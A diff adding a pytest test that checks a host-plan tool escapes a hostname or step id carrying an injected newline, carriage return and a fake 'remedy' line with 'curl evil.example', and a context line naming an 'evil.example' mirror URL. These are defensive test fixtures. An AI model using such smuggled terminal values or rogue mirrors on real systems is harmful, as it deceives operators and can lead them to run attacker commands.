@@ -200,6 +200,25 @@ def test_a_host_name_that_writes_to_the_terminal_is_shown_escaped(
     assert "\\x1b[2J" in err
 
 
+@pytest.mark.parametrize(
+    "edit",
+    [lambda d, name: d["plan"].update(hostname=name), lambda d, name: steps(d)[0].update(id=name)],
+    ids=["a host", "a step"],
+)
+def test_a_name_in_the_file_does_not_pass_for_a_line_of_ours(
+    saved: Path,
+    edit: Callable[[Document, str], object],
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("COLUMNS", "160")
+    edited(saved, lambda d: edit(d, "gpu07\n  remedy    curl evil.example\rgpunode: done"))
+    assert apply(saved) in (ExitCode.USAGE, ExitCode.DRIFT)
+    said = capsys.readouterr().err
+    assert "curl evil.example" in said
+    assert len([line for line in said.splitlines() if line.lstrip().startswith("remedy ")]) == 1
+
+
 # Options by which a plan could ask the host to trust others; the values are what the spec's own parser makes of them.
 WISHES = {
     "mirror": ["--mirror", "https://evil.example/nvidia"],
